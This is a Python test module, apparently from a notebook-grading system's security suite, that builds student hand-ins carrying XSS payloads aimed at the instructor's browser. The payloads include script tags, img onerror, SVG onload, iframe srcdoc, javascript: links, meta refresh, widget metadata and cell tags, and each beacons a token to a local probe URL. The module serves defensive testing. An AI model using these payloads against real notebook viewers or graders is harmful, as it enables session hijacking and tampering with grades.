"""Acting in the instructor's browser.

Each tries to send the token to the port while somebody looks at the page and clicks on what there is.
"""

from nbformat import NotebookNode

from tests.hostile.attack import Attack, Graded, HandIn, Scene, fill_in, released, save, with_code
from tests.released import find, insert

PROBE = "http://127.0.0.1:@PORT@/@TOKEN@-@ME@"
_SCRIPT = f"new Image().src='{PROBE}'"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_SCRIPT}"><script>{_SCRIPT}</script></svg>'


def _answer(text: str) -> HandIn:
    def hand_in(folder, scene: Scene) -> None:
        notebook = released()
        find(notebook, "reflection").source = fill_in(text, scene)
        insert(notebook, fill_in(text, scene), kind="markdown")
        save(folder, notebook)

    return hand_in


def _raw(text: str) -> HandIn:
    def hand_in(folder, scene: Scene) -> None:
        notebook = released()
        insert(notebook, fill_in(text, scene), kind="raw").metadata.raw_mimetype = "text/html"
        save(folder, notebook)

    return hand_in


def _attachment(folder, scene: Scene) -> None:
    notebook = released()
    cell: NotebookNode = find(notebook, "reflection")
    cell.source = "![a](attachment:a.svg)"
    cell["attachments"] = {"a.svg": {"image/svg+xml": fill_in(f'" onerror="{_SCRIPT}', scene)}}
    save(folder, notebook)


def _page_beside(name: str, content: str) -> HandIn:
    def hand_in(folder, scene: Scene) -> None:
        _answer(f"[my figure]({name})")(folder, scene)
        (folder / name).write_text(fill_in(content, scene))

    return hand_in


def _widgets(folder, scene: Scene) -> None:
    notebook = released()
    script = fill_in(f"</script><script>{_SCRIPT}</script>", scene)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"a": script}}
    notebook.metadata["title"] = fill_in(f"</title><script>{_SCRIPT}</script>", scene)
    save(folder, notebook)


def _tags(folder, scene: Scene) -> None:
    notebook = released()
    for cell in notebook.cells:
        cell.metadata["tags"] = [f'"><img/src=x/onerror="{fill_in(_SCRIPT, scene)}">']
    save(folder, notebook)


_MARKDOWN = {
    "a_script": f"<script>{_SCRIPT}</script>",
    "a_picture": f"![seen]({PROBE})",
    "an_error_handler": f'a <img src=x onerror="{_SCRIPT}"> b',
    "a_drawing": _SVG,
    "a_frame": f'<iframe srcdoc="<script>{_SCRIPT}</script>"></iframe>',
    "a_link": f'[full marks](<javascript:{_SCRIPT}>)\n\n<a href="javascript:{_SCRIPT}">more</a>',
    "a_style": f"<style>body {{ background: url({PROBE}) }}</style>",
    "a_refresh": f'<meta http-equiv="refresh" content="0;url={PROBE}">',
    "a_form": f'<form action="{PROBE}"><input name=a autofocus onfocus="{_SCRIPT}"></form>',
    "a_diagram": f"```mermaid\n</pre><script>{_SCRIPT}</script>\n```",
    "a_formula": f'$\\href{{javascript:{_SCRIPT}}}{{x}}$ $<img src=x onerror="{_SCRIPT}">$',
    "an_environment": f'\\begin{{a}}<img src=x onerror="{_SCRIPT}">\\end{{a}}',
}

_DISPLAY = "from IPython.display import display\ndisplay({{{!r}: {!r}, 'text/plain': 'a'}}, raw=True{})"
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
# An attribute without quotes ends at the first blank.
_SIZE = f"1 onload=fetch('{PROBE}') onerror=fetch('{PROBE}')"
_OUTPUTS = {
    "html": _DISPLAY.format("text/html", f'<script>{_SCRIPT}</script><img src=x onerror="{_SCRIPT}">', ""),
    "an_isolated_page": _DISPLAY.format(
        "text/html", f"<script>{_SCRIPT}</script>", ", metadata={'text/html': {'isolated': True}}"
    ),
    "javascript": _DISPLAY.format("application/javascript", _SCRIPT, ""),
    "a_drawing": _DISPLAY.format("image/svg+xml", _SVG, ""),
    "markdown": _DISPLAY.format("text/markdown", f'<img src=x onerror="{_SCRIPT}">', ""),
    "latex": _DISPLAY.format(
        "text/latex", f"$\\href{{javascript:{_SCRIPT}}}{{x}}$</div><script>{_SCRIPT}</script>", ""
    ),
    "a_widget": _DISPLAY.format(
        "application/vnd.jupyter.widget-view+json", {"model_id": f"</script><script>{_SCRIPT}</script>"}, ""
    ),
    "a_picture_that_is_none": _DISPLAY.format("image/png", f'x" onerror="{_SCRIPT}', ""),
    "the_size_of_a_picture": _DISPLAY.format(
        "image/png", _PIXEL, f", metadata={{'image/png': {{'width': {_SIZE!r}}}}}"
    ),
    "text": f"print({f'<script>{_SCRIPT}</script>'!r})",
    "colors": "print('\\x1b[31m' + " + repr(f'<img src=x onerror="{_SCRIPT}">') + ")",
    "an_exception": f'raise type("<script>{_SCRIPT}</script>", (Exception,), {{}})("<script>{_SCRIPT}</script>")',
}


def _acts(scene: Scene, graded: Graded) -> bool:
    return any(f"{scene.token}-{scene.me}" in heard for heard in scene.heard)


_GOAL = "the page does something when it is looked at"

ATTACKS = [
    *(Attack("browser", f"writes_{name}", _GOAL, _answer(text), _acts) for name, text in _MARKDOWN.items()),
    *(Attack("browser", f"shows_{name}", _GOAL, with_code("\n" + c), _acts) for name, c in _OUTPUTS.items()),
    Attack("browser", "hands_in_raw_html", _GOAL, _raw(f"<script>{_SCRIPT}</script>{_SVG}"), _acts),
    Attack("browser", "leads_to_a_page_beside", _GOAL, _page_beside("a.html", f"<script>{_SCRIPT}</script>"), _acts),
    Attack("browser", "leads_to_a_drawing_beside", _GOAL, _page_beside("a.svg", _SVG), _acts),
    Attack("browser", "attaches_a_drawing", _GOAL, _attachment, _acts),
    Attack("browser", "hands_in_widgets", _GOAL, _widgets, _acts),
    Attack("browser", "tags_its_cells", _GOAL, _tags, _acts),
]
